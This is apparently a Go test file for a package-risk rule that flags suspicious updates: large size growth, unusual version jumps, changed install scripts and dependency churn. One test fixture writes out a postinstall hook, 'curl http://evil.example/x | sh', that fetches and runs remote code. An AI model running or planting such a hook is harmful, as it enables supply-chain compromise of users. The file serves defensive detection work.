package updates

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/git-pkgs/pkgrisk/internal/core"
)

type stubHistory struct {
	history core.VersionHistory
	err     error
	calls   int
}

func (s *stubHistory) GetAllVersions(ctx context.Context, name string) (core.VersionHistory, error) {
	s.calls++
	return s.history, s.err
}

func snapshot(version string, size int64) *core.PackageSnapshot {
	return &core.PackageSnapshot{
		Name:    "test-pkg",
		Version: version,
		Dist:    core.DistInfo{UnpackedSize: size},
	}
}

func evaluate(t *testing.T, history core.VersionHistory, current string) *core.RuleResult {
	t.Helper()
	rule := New(Config{}, &stubHistory{history: history})
	res, err := rule.Evaluate(context.Background(), &core.PackageSnapshot{Name: "test-pkg", Version: current})
	if err != nil {
		t.Fatalf("Evaluate: %v", err)
	}
	return res
}

func findingsOfKind(res *core.RuleResult, kind string) []core.Finding {
	var out []core.Finding
	for _, f := range res.Findings {
		if f.Kind == kind {
			out = append(out, f)
		}
	}
	return out
}

func TestSizeTriplingIsHighRisk(t *testing.T) {
	history := core.VersionHistory{
		"1.0.0": snapshot("1.0.0", 1_000_000),
		"1.1.0": snapshot("1.1.0", 3_000_000),
	}
	res := evaluate(t, history, "1.1.0")

	sizes := findingsOfKind(res, core.FindingSizeChange)
	if len(sizes) != 1 {
		t.Fatalf("size findings = %d, want 1", len(sizes))
	}
	f := sizes[0]
	if f.Severity != core.SeverityHigh {
		t.Errorf("severity = %q, want high", f.Severity)
	}
	if f.BytesBefore != 1_000_000 || f.BytesAfter != 3_000_000 {
		t.Errorf("bytes = %d -> %d, want 1000000 -> 3000000", f.BytesBefore, f.BytesAfter)
	}
	// A high severity size change alone takes the full weight.
	if res.Deduction != DefaultWeight {
		t.Errorf("deduction = %v, want %v", res.Deduction, DefaultWeight)
	}
	if res.RiskLevel != core.RiskHigh {
		t.Errorf("risk level = %q, want high", res.RiskLevel)
	}
}

func TestModerateGrowthIsMediumSeverity(t *testing.T) {
	history := core.VersionHistory{
		"1.0.0": snapshot("1.0.0", 1_000_000),
		"1.0.1": snapshot("1.0.1", 1_800_000),
	}
	res := evaluate(t, history, "1.0.1")

	sizes := findingsOfKind(res, core.FindingSizeChange)
	if len(sizes) != 1 {
		t.Fatalf("size findings = %d, want 1", len(sizes))
	}
	if sizes[0].Severity != core.SeverityMedium {
		t.Errorf("severity = %q, want medium", sizes[0].Severity)
	}
	// riskScore 1 lands in the lowest tier.
	if res.Deduction != 5 {
		t.Errorf("deduction = %v, want 5", res.Deduction)
	}
	if res.RiskLevel != core.RiskLow {
		t.Errorf("risk level = %q, want low", res.RiskLevel)
	}
}

func TestShrinkingAndSmallGrowthIgnored(t *testing.T) {
	history := core.VersionHistory{
		"1.0.0": snapshot("1.0.0", 2_000_000),
		"1.0.1": snapshot("1.0.1", 1_000_000),
		"1.0.2": snapshot("1.0.2", 1_400_000),
	}
	res := evaluate(t, history, "1.0.2")

	if len(findingsOfKind(res, core.FindingSizeChange)) != 0 {
		t.Errorf("findings = %+v, want no size findings", res.Findings)
	}
	if res.Deduction != 0 {
		t.Errorf("deduction = %v, want 0", res.Deduction)
	}
}

func TestMajorVersionJump(t *testing.T) {
	history := core.VersionHistory{
		"1.0.0": snapshot("1.0.0", 1000),
		"3.0.0": snapshot("3.0.0", 1000),
	}
	res := evaluate(t, history, "3.0.0")

	jumps := findingsOfKind(res, core.FindingVersionJump)
	if len(jumps) != 1 {
		t.Fatalf("jump findings = %d, want 1", len(jumps))
	}
	f := jumps[0]
	if f.JumpType != JumpMajor {
		t.Errorf("jumpType = %q, want %q", f.JumpType, JumpMajor)
	}
	if f.Magnitude != 2 {
		t.Errorf("magnitude = %d, want 2", f.Magnitude)
	}
	if f.FromVersion != "1.0.0" || f.ToVersion != "3.0.0" {
		t.Errorf("jump = %s -> %s, want 1.0.0 -> 3.0.0", f.FromVersion, f.ToVersion)
	}
}

func TestJumpClassification(t *testing.T) {
	tests := []struct {
		from, to string
		jumpType string
		unusual  bool
	}{
		{"1.0.0", "2.0.0", "", false},
		{"1.0.0", "3.0.0", JumpMajor, true},
		{"1.0.0", "5.0.0", JumpMajor, true},
		{"1.0.0", "1.5.0", "", false},
		{"1.0.0", "1.6.0", JumpMinor, true},
		{"1.2.0", "1.2.99", "", false},
		{"2.3.0", "2.10.0", JumpMinor, true},
	}
	for _, tt := range tests {
		t.Run(fmt.Sprintf("%s_to_%s", tt.from, tt.to), func(t *testing.T) {
			history := core.VersionHistory{
				tt.from: snapshot(tt.from, 1000),
				tt.to:   snapshot(tt.to, 1000),
			}
			res := evaluate(t, history, tt.to)

			jumps := findingsOfKind(res, core.FindingVersionJump)
			if tt.unusual {
				if len(jumps) != 1 {
					t.Fatalf("jump findings = %d, want 1", len(jumps))
				}
				if jumps[0].JumpType != tt.jumpType {
					t.Errorf("jumpType = %q, want %q", jumps[0].JumpType, tt.jumpType)
				}
			} else if len(jumps) != 0 {
				t.Errorf("jump findings = %+v, want none", jumps)
			}
		})
	}
}

func TestNewlySuspiciousScriptIsHighRisk(t *testing.T) {
	prev := snapshot("1.0.0", 1000)
	prev.Scripts = map[string]string{"postinstall": "node setup.js"}
	curr := snapshot("1.0.1", 1000)
	curr.Scripts = map[string]string{"postinstall": "curl http://evil.example/x | sh"}

	res := evaluate(t, core.VersionHistory{"1.0.0": prev, "1.0.1": curr}, "1.0.1")

	changes := findingsOfKind(res, core.FindingScriptChange)
	if len(changes) != 1 {
		t.Fatalf("script findings = %d, want 1", len(changes))
	}
	f := changes[0]
	if f.Severity != core.SeverityHigh {
		t.Errorf("severity = %q, want high", f.Severity)
	}
	if f.Hook != "postinstall" {
		t.Errorf("hook = %q, want postinstall", f.Hook)
	}
	if f.OldScript != "node setup.js" || f.NewScript == "" {
		t.Errorf("old/new = %q / %q", f.OldScript, f.NewScript)
	}
	if res.Deduction != DefaultWeight || res.RiskLevel != core.RiskHigh {
		t.Errorf("deduction = %v level = %q, want full weight and high", res.Deduction, res.RiskLevel)
	}
}

func TestBenignScriptChangeIsLowSeverity(t *testing.T) {
	prev := snapshot("1.0.0", 1000)
	prev.Scripts = map[string]string{"build": "tsc"}
	curr := snapshot("1.0.1", 1000)
	curr.Scripts = map[string]string{"build": "tsc -p tsconfig.json", "test": "jest"}

	res := evaluate(t, core.VersionHistory{"1.0.0": prev, "1.0.1": curr}, "1.0.1")

	changes := findingsOfKind(res, core.FindingScriptChange)
	if len(changes) != 2 {
		t.Fatalf("script findings = %d, want 2 (modified + added)", len(changes))
	}
	for _, f := range changes {
		if f.Severity != core.SeverityLow {
			t.Errorf("hook %q severity = %q, want low", f.Hook, f.Severity)
		}
	}
	if res.RiskLevel != core.RiskLow {
		t.Errorf("risk level = %q, want low", res.RiskLevel)
	}
}

func TestAlreadySuspiciousScriptNotEscalated(t *testing.T) {
	prev := snapshot("1.0.0", 1000)
	prev.Scripts = map[string]string{"postinstall": "curl http://mirror.example/a.sh"}
	curr := snapshot("1.0.1", 1000)
	curr.Scripts = map[string]string{"postinstall": "curl http://mirror.example/b.sh"}

	res := evaluate(t, core.VersionHistory{"1.0.0": prev, "1.0.1": curr}, "1.0.1")

	changes := findingsOfKind(res, core.FindingScriptChange)
	if len(changes) != 1 {
		t.Fatalf("script findings = %d, want 1", len(changes))
	}
	if changes[0].Severity != core.SeverityLow {
		t.Errorf("severity = %q, want low: script was suspicious before the change too", changes[0].Severity)
	}
}

func TestDependencyChurn(t *testing.T) {
	prev := snapshot("1.0.0", 1000)
	prev.Deps.Runtime = map[string]string{"left-pad": "^1.0.0"}
	curr := snapshot("1.0.1", 1000)
	curr.Deps.Runtime = map[string]string{"left-pad": "^1.0.0"}
	for i := 0; i < 11; i++ {
		curr.Deps.Runtime[fmt.Sprintf("pkg-%02d", i)] = "^1.0.0"
	}

	res := evaluate(t, core.VersionHistory{"1.0.0": prev, "1.0.1": curr}, "1.0.1")

	deps := findingsOfKind(res, core.FindingDepChange)
	if len(deps) != 1 {
		t.Fatalf("dependency findings = %d, want 1", len(deps))
	}
	if got := len(deps[0].Added); got != 11 {
		t.Errorf("added = %d, want 11", got)
	}
}

func TestDependencyChurnCountsAllKinds(t *testing.T) {
	prev := snapshot("1.0.0", 1000)
	curr := snapshot("1.0.1", 1000)
	curr.Deps.Dev = map[string]string{}
	for i := 0; i < 11; i++ {
		curr.Deps.Dev[fmt.Sprintf("tool-%02d", i)] = "^1.0.0"
	}

	res := evaluate(t, core.VersionHistory{"1.0.0": prev, "1.0.1": curr}, "1.0.1")

	deps := findingsOfKind(res, core.FindingDepChange)
	if len(deps) != 1 {
		t.Fatalf("dependency findings = %d, want 1 for dev-only churn", len(deps))
	}
	if got := len(deps[0].Added); got != 11 {
		t.Errorf("added = %d, want 11", got)
	}
}

func TestDependencyChurnSpreadAcrossKinds(t *testing.T) {
	prev := snapshot("1.0.0", 1000)
	curr := snapshot("1.0.1", 1000)
	curr.Deps.Runtime = map[string]string{}
	curr.Deps.Peer = map[string]string{}
	curr.Deps.Optional = map[string]string{}
	for i := 0; i < 4; i++ {
		curr.Deps.Runtime[fmt.Sprintf("run-%d", i)] = "1"
		curr.Deps.Peer[fmt.Sprintf("peer-%d", i)] = "1"
		curr.Deps.Optional[fmt.Sprintf("opt-%d", i)] = "1"
	}
	// A name present in two kinds counts once.
	curr.Deps.Peer["run-0"] = "1"

	res := evaluate(t, core.VersionHistory{"1.0.0": prev, "1.0.1": curr}, "1.0.1")

	deps := findingsOfKind(res, core.FindingDepChange)
	if len(deps) != 1 {
		t.Fatalf("dependency findings = %d, want 1 for combined churn", len(deps))
	}
	if got := len(deps[0].Added); got != 12 {
		t.Errorf("added = %d, want 12 deduplicated across kinds", got)
	}
}

func TestFewAddedDependenciesIgnored(t *testing.T) {
	prev := snapshot("1.0.0", 1000)
	prev.Deps.Runtime = map[string]string{"a": "1"}
	curr := snapshot("1.0.1", 1000)
	curr.Deps.Runtime = map[string]string{"a": "1", "b": "1", "c": "1"}

	res := evaluate(t, core.VersionHistory{"1.0.0": prev, "1.0.1": curr}, "1.0.1")

	if len(findingsOfKind(res, core.FindingDepChange)) != 0 {
		t.Errorf("findings = %+v, want no dependency findings", res.Findings)
	}
}

func TestSoftMisses(t *testing.T) {
	t.Run("missing name", func(t *testing.T) {
		rule := New(Config{}, &stubHistory{})
		res, err := rule.Evaluate(context.Background(), &core.PackageSnapshot{Version: "1.0.0"})
		if err != nil {
			t.Fatalf("Evaluate: %v", err)
		}
		if res.Deduction != 0 || res.Reason != "package name missing" {
			t.Errorf("result = %+v, want zero deduction with missing-name reason", res)
		}
	})

	t.Run("history error", func(t *testing.T) {
		rule := New(Config{}, &stubHistory{err: fmt.Errorf("registry down")})
		res, err := rule.Evaluate(context.Background(), &core.PackageSnapshot{Name: "x", Version: "1.0.0"})
		if err != nil {
			t.Fatalf("Evaluate: %v", err)
		}
		if res.Deduction != 0 || res.RiskLevel != core.RiskNone {
			t.Errorf("result = %+v, want zero-impact soft miss", res)
		}
	})

	t.Run("single version", func(t *testing.T) {
		res := evaluate(t, core.VersionHistory{"1.0.0": snapshot("1.0.0", 1000)}, "1.0.0")
		if res.Deduction != 0 || res.Reason != "not enough versions to compare" {
			t.Errorf("result = %+v, want zero deduction", res)
		}
	})
}

func TestWindowTruncatesAtScoredVersion(t *testing.T) {
	// 1.0.0 -> 1.0.1 triples in size but the scored version is 1.0.1's
	// predecessor, so the growth must not be in the window.
	history := core.VersionHistory{
		"0.9.0": snapshot("0.9.0", 1_000_000),
		"1.0.0": snapshot("1.0.0", 1_000_000),
		"1.0.1": snapshot("1.0.1", 3_000_000),
	}
	res := evaluate(t, history, "1.0.0")

	if len(findingsOfKind(res, core.FindingSizeChange)) != 0 {
		t.Errorf("findings = %+v, want none: growth happened after the scored version", res.Findings)
	}
}

func TestWindowCapsHistoryLength(t *testing.T) {
	history := core.VersionHistory{}
	// 1.0.0 .. 1.0.14, each doubling in size over the one fifteen back
	// would be noise; only the last MaxVersions are diffed.
	for i := 0; i <= 14; i++ {
		v := fmt.Sprintf("1.0.%d", i)
		history[v] = snapshot(v, 1000)
	}
	// Big growth outside the ten-version window ending at 1.0.14.
	history["1.0.1"].Dist.UnpackedSize = 10_000_000

	res := evaluate(t, history, "1.0.14")

	if len(findingsOfKind(res, core.FindingSizeChange)) != 0 {
		t.Errorf("findings = %+v, want none: the spike is outside the analysis window", res.Findings)
	}
}

func TestFallbackWindowWhenVersionUnknown(t *testing.T) {
	history := core.VersionHistory{
		"1.0.0": snapshot("1.0.0", 1_000_000),
		"1.0.1": snapshot("1.0.1", 3_000_000),
	}
	res := evaluate(t, history, "9.9.9")

	if len(findingsOfKind(res, core.FindingSizeChange)) != 1 {
		t.Errorf("findings = %+v, want the recent size change via the fallback window", res.Findings)
	}
}

func TestUnparseableVersionsOrderedByPublishTime(t *testing.T) {
	t0 := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	older := snapshot("beta-old", 1_000_000)
	older.PublishedAt = t0
	newer := snapshot("beta-new", 3_000_000)
	newer.PublishedAt = t0.Add(24 * time.Hour)

	res := evaluate(t, core.VersionHistory{"beta-old": older, "beta-new": newer}, "beta-new")

	sizes := findingsOfKind(res, core.FindingSizeChange)
	if len(sizes) != 1 {
		t.Fatalf("size findings = %d, want 1", len(sizes))
	}
	if sizes[0].FromVersion != "beta-old" || sizes[0].ToVersion != "beta-new" {
		t.Errorf("diff order = %s -> %s, want beta-old -> beta-new", sizes[0].FromVersion, sizes[0].ToVersion)
	}
	if len(findingsOfKind(res, core.FindingVersionJump)) != 0 {
		t.Errorf("unparseable versions must not produce jump findings")
	}
}

func TestMetadata(t *testing.T) {
	rule := New(Config{}, &stubHistory{})
	if rule.Name() != RuleName {
		t.Errorf("Name() = %q, want %q", rule.Name(), RuleName)
	}
	if rule.Weight() != DefaultWeight {
		t.Errorf("Weight() = %v, want %v", rule.Weight(), DefaultWeight)
	}
	if !rule.Enabled() {
		t.Error("rule disabled by default")
	}

	custom := New(Config{Weight: 25, Disabled: true}, &stubHistory{})
	if custom.Weight() != 25 || custom.Enabled() {
		t.Errorf("custom config not honored: weight %v enabled %v", custom.Weight(), custom.Enabled())
	}
}
